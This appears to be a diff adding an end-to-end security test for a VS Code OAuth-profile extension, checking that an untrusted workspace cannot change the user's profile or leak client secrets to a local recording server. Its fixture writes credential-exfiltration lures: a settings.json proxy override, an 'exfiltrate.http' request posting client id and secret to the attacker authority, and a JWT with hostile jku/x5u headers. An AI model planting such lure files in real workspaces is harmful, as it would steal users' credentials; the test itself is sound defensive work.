@@ -1,0 +1,235 @@
+/**
+ * A hostile workspace, opened in Restricted Mode (workspace trust on, as users have it). The user has two
+ * profiles, demo (active) and staging, added in their own trusted folder. The hostile folder's
+ * .vscode/settings.json asks for staging through `konexus.defaultProfile` (the extension's one restricted
+ * setting) and points `http.proxy` at a recording server; its .http file, .env and a JWT whose `iss` (and
+ * `jku`, `x5u`) name that server try to lure requests there. The recording server keeps every byte it is
+ * sent.
+ *
+ * Checked: in Restricted Mode the status bar keeps the user's profile (demo), a token refresh and hovering
+ * and inspecting the hostile token send nothing to the recording server, and no CodeLens calls that token
+ * (the user's client id, another issuer) the demo profile's; once the user trusts the folder
+ * through the workbench's own Workspace Trust editor, the setting applies (staging), and still no byte of
+ * either secret, in any encoding, ever reaches the recording server. The search is shown to work: the same
+ * search over what the real identity server received finds both secrets.
+ * Screenshots: Restricted Mode, the hostile token inspected, the trusted folder.
+ */
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { encodedForms, findForms, startRecordingServer } from '../host/lib/recordingServer';
+import { extensionId } from '../host/lib/repo';
+import { addProfileThroughUi, pickItem, runCommand, trustThroughEditor, waitForRestrictedMode } from '../host/lib/uiActions';
+import type { UiContext } from '../host/lib/uiScenario';
+import { DEMO_CLIENT } from '../idp/konexusIdp';
+
+export const name = 'a hostile workspace in Restricted Mode cannot pick the profile or draw the secret; trusting it applies its profile';
+export const workspaceTrust = true;
+
+const TIMEOUT = 30_000;
+const STAGING = { name: 'staging', clientId: 'konexus-staging-client', clientSecret: `staging-secret-${randomBytes(12).toString('hex')}` };
+const HTTP_FILE = 'exfiltrate.http';
+
+export async function run(page: Page, ui: UiContext): Promise<void> {
+  const { workbench } = ui;
+  const recorder = await startRecordingServer();
+  try {
+    ui.idp.addClient({ clientId: STAGING.clientId, clientSecret: STAGING.clientSecret, claims: { tenantId: '2024', name: 'Staging client' } });
+
+    // 1. The user's own folder, trusted: the demo profile comes up, staging is added, demo chosen again.
+    await ui.step('the workbench comes up with the demo token, its folder in Restricted Mode', async () => {
+      await workbench.waitUntilReady();
+      await waitForRestrictedMode(workbench);
+      await workbench.statusBarItem(/Konexus · demo · \d+m/).first().waitFor({ timeout: 60_000 });
+    });
+    await ui.step('the user trusts their own folder in the Workspace Trust editor', () => trustThroughEditor(workbench));
+    await ui.step('"Konexus: Add Profile…" adds staging, which becomes active', async () => {
+      await addProfileThroughUi(workbench, { ...STAGING, authority: ui.idp.issuer });
+      await workbench.statusBarItem(/Konexus · staging · \d+m/).first().waitFor({ timeout: TIMEOUT });
+    });
+    await ui.step('"Konexus: Switch Profile…" makes demo the active profile again', async () => {
+      await runCommand(workbench, 'Konexus: Switch Profile…');
+      await pickItem(workbench, 'demo');
+      await workbench.statusBarItem(/Konexus · demo · \d+m/).first().waitFor({ timeout: TIMEOUT });
+      // The web workbench writes globalState to IndexedDB a little later; leaving the page before that
+      // would lose the choice (and the next folder would start from staging for that reason alone).
+      await waitUntilAsync(async () => (await storedGlobalActiveProfile(page)) === 'demo', 'the choice of demo did not reach IndexedDB');
+    });
+
+    // 2. The hostile folder, not trusted.
+    const hostile = join(dirname(ui.workspace), 'hostile-workspace');
+    const lure = await writeHostileWorkspace(hostile, recorder.url, ui);
+    await ui.step('the hostile folder opens in Restricted Mode', async () => {
+      await page.goto(ui.workbenchUrl(hostile));
+      await workbench.waitUntilReady();
+      await waitForRestrictedMode(workbench);
+    });
+    await ui.step('in Restricted Mode the status bar keeps the user\'s profile, not the workspace\'s', async () => {
+      const stored = await storedGlobalActiveProfile(page);
+      if (stored !== 'demo') throw new Error(`the user's stored choice is ${stored}, not demo: the test is broken`);
+      await workbench.statusBarItem(/Konexus · demo · \d+m/).first().waitFor({ timeout: 60_000 });
+      // The workspace's value must not win later either (a configuration event, a re-render).
+      await page.waitForTimeout(3000);
+      const konexus = (await workbench.statusBarItem(/Konexus · /).allInnerTexts()).map(text => text.trim());
+      if (konexus.length !== 1 || !/^Konexus · demo · \d+m$/.test(konexus[0]!)) throw new Error(`the status bar shows ${JSON.stringify(konexus)}`);
+    });
+    await ui.screenshot('restricted-mode');
+
+    await ui.step('a token refresh in Restricted Mode goes to the profile\'s server, not the workspace\'s proxy', async () => {
+      const before = ui.idp.requests.length;
+      await runCommand(workbench, 'Konexus: Refresh Token');
+      await waitUntil(() => ui.idp.requests.slice(before).some(request => request.path === '/connect/token'), 'the refresh did not reach the identity server');
+      await workbench.statusBarItem(/Konexus · demo · \d+m/).first().waitFor({ timeout: TIMEOUT });
+    });
+
+    await ui.step('hovering the token that names the recording server describes it and calls nobody', async () => {
+      await workbench.quickOpen(HTTP_FILE);
+      const line = workbench.activeEditorLines().filter({ hasText: lure.jwt.split('.')[1]!.slice(0, 40) }).first();
+      await line.waitFor({ timeout: TIMEOUT });
+      await line.hover({ position: { x: 260, y: 8 } });
+      const hover = page.locator('.monaco-hover:visible', { hasText: 'Inspect in Konexus' });
+      await hover.waitFor({ timeout: TIMEOUT });
+      const text = await hover.innerText();
+      if (!text.includes(`Issuer: ${recorder.url}`)) throw new Error(`the hover does not name the token's issuer:\n${text}`);
+      await ui.screenshot('restricted-hover');
+      await hover.locator('a', { hasText: 'Inspect in Konexus' }).click();
+      const rows = page.locator('.pane-body .monaco-list-row');
+      await page.locator('.pane-header', { hasText: 'Token Inspector' }).waitFor({ timeout: TIMEOUT });
+      const signature = rows.filter({ has: page.locator('.label-name', { hasText: /^Signature$/ }) }).first();
+      await signature.waitFor({ timeout: TIMEOUT });
+      if (!(await signature.locator('.codicon-circle-slash').count())) throw new Error(`the signature is not skipped: ${await signature.innerText()}`);
+      // The inspector's checks are done; anything it would fetch has been asked for by now.
+      await page.waitForTimeout(2000);
+      if (recorder.connections.length) throw new Error(`hovering and inspecting made ${recorder.connections.length} connection(s) to the recording server`);
+    });
+    await ui.step('no CodeLens calls the hostile token (the user\'s client id, another issuer) a profile\'s', async () => {
+      const lenses = page.locator('.editor-group-container.active .codelens-decoration');
+      // The lens of the .env reference shows the lenses are drawn; the literal token must have none.
+      await lenses.filter({ hasText: 'write token to .env' }).first().waitFor({ timeout: TIMEOUT });
+      const titles = (await lenses.allInnerTexts()).map(text => text.trim());
+      if (titles.some(title => /literal token/.test(title))) throw new Error(`a CodeLens claims the hostile token: ${titles.join(' | ')}`);
+    });
+    await page.mouse.move(700, 880);
+    await ui.screenshot('restricted-inspector');
+
+    // 3. The user trusts the hostile folder through the Workspace Trust editor.
+    await ui.step('the user trusts the folder in the Workspace Trust editor', () => trustThroughEditor(workbench, () => ui.screenshot('trust-editor')));
+    await ui.step('trusted, the workspace\'s konexus.defaultProfile applies: the status bar shows staging', async () => {
+      await workbench.statusBarItem(/Konexus · staging · \d+m/).first().waitFor({ timeout: TIMEOUT });
+    });
+    await ui.step('a token refresh for staging, with the workspace\'s http.proxy now trusted, still goes to the profile\'s server', async () => {
+      const before = ui.idp.requests.length;
+      await runCommand(workbench, 'Konexus: Refresh Token');
+      await waitUntil(() => ui.idp.requests.slice(before).some(request => request.path === '/connect/token' && findForms(request.body, encodedForms(STAGING.clientSecret)).length > 0), 'the staging refresh did not reach the identity server');
+      await workbench.statusBarItem(/Konexus · staging · \d+m/).first().waitFor({ timeout: TIMEOUT });
+    });
+    await page.mouse.move(700, 880);
+    await ui.screenshot('trusted');
+
+    await ui.step('the recording server received no byte of either secret, and no request at all', async () => {
+      const received = recorder.received();
+      const secrets = [
+        { label: 'demo', forms: encodedForms(DEMO_CLIENT.clientSecret, DEMO_CLIENT.clientId) },
+        { label: 'staging', forms: encodedForms(STAGING.clientSecret, STAGING.clientId) },
+      ];
+      // The search itself works: over what the real identity server received it finds both secrets.
+      const atIdp = ui.idp.requests.map(request => `${JSON.stringify(request.headers)}\n${request.body}`).join('\n');
+      for (const { label, forms } of secrets) {
+        if (!findForms(atIdp, forms).length) throw new Error(`the search does not find the ${label} secret where it was sent: the search is broken`);
+        const leaked = findForms(received, forms);
+        if (leaked.length) throw new Error(`the recording server received the ${label} secret (${leaked.join(', ')})`);
+      }
+      ui.log(`recording server: ${recorder.connections.length} connection(s), ${received.length} byte(s); ${secrets.length} secrets × ${secrets[0]!.forms.size} encodings searched; identity server: ${ui.idp.requests.length} request(s)`);
+      if (recorder.connections.length) throw new Error(`the recording server was called ${recorder.connections.length} time(s):\n${received.toString('latin1').slice(0, 2000)}`);
+    });
+  } finally {
+    ui.idp.removeClient(STAGING.clientId);
+    await recorder.close();
+  }
+}
+
+/** The hostile folder: settings, a .http file and a .env aimed at `target`, and a JWT whose iss is `target`. */
+async function writeHostileWorkspace(folder: string, target: string, ui: UiContext): Promise<{ jwt: string }> {
+  const now = Math.floor(Date.now() / 1000);
+  const jwt = await ui.idp.sign(
+    { iss: target, aud: 'tamarack', client_id: DEMO_CLIENT.clientId, scope: 'tamarack', iat: now, nbf: now, exp: now + 3600, tenantId: '1741' },
+    { jku: `${target}/jwks`, x5u: `${target}/cert.pem`, kid: 'hostile-key' },
+  );
+  mkdirSync(join(folder, '.vscode'), { recursive: true });
+  writeFileSync(join(folder, '.vscode', 'settings.json'), `${JSON.stringify({
+    'konexus.defaultProfile': STAGING.name,
+    'http.proxy': target,
+    'http.proxySupport': 'override',
+    'http.proxyStrictSSL': false,
+    'http.noProxy': [],
+  }, null, 2)}\n`);
+  writeFileSync(join(folder, HTTP_FILE), [
+    `@authority = ${target}`,
+    '',
+    '### Get a token from "our" identity server',
+    'POST {{authority}}/connect/token',
+    'Content-Type: application/x-www-form-urlencoded',
+    '',
+    'grant_type=client_credentials&client_id={{$dotenv KONEXUS_CLIENT_ID}}&client_secret={{$dotenv KONEXUS_CLIENT_SECRET}}',
+    '',
+    '### Call the API with it',
+    'GET {{authority}}/v1/me',
+    `Authorization: Bearer ${jwt}`,
+    '',
+    '### And with the token of the .env',
+    'GET {{authority}}/v1/tenants',
+    'Authorization: Bearer {{$dotenv KONEXUS_TOKEN}}',
+    '',
+  ].join('\n'));
+  writeFileSync(join(folder, '.env'), [
+    `KONEXUS_AUTHORITY=${target}`,
+    `KONEXUS_CLIENT_ID=${DEMO_CLIENT.clientId}`,
+    'KONEXUS_CLIENT_SECRET=',
+    `KONEXUS_TOKEN=${jwt}`,
+    '',
+  ].join('\n'));
+  return { jwt };
+}
+
+/** konexus.activeProfile of the extension's globalState as the web workbench stored it in IndexedDB. */
+async function storedGlobalActiveProfile(page: Page): Promise<string | undefined> {
+  return page.evaluate(async (id: string) => {
+    for (const info of await indexedDB.databases()) {
+      if (!info.name?.startsWith('vscode-web-state-db-global')) continue;
+      const db = await new Promise<IDBDatabase>((resolve, reject) => {
+        const open = indexedDB.open(info.name!);
+        open.onsuccess = () => resolve(open.result);
+        open.onerror = () => reject(open.error);
+      });
+      try {
+        if (!db.objectStoreNames.contains('ItemTable')) continue;
+        const value = await new Promise<unknown>((resolve, reject) => {
+          const get = db.transaction('ItemTable', 'readonly').objectStore('ItemTable').get(id);
+          get.onsuccess = () => resolve(get.result);
+          get.onerror = () => reject(get.error);
+        });
+        if (typeof value === 'string') return (JSON.parse(value) as Record<string, unknown>)['konexus.activeProfile'] as string | undefined;
+      } finally {
+        db.close();
+      }
+    }
+    return undefined;
+  }, extensionId);
+}
+
+async function waitUntilAsync(condition: () => Promise<boolean>, message: string, timeoutMs = TIMEOUT): Promise<void> {
+  const started = Date.now();
+  while (!(await condition())) {
+    if (Date.now() - started > timeoutMs) throw new Error(message);
+    await new Promise(resolve => setTimeout(resolve, 250));
+  }
+}
+
+async function waitUntil(condition: () => boolean, message: string, timeoutMs = TIMEOUT): Promise<void> {
+  const started = Date.now();
+  while (!condition()) {
+    if (Date.now() - started > timeoutMs) throw new Error(message);
+    await new Promise(resolve => setTimeout(resolve, 200));
+  }
+}
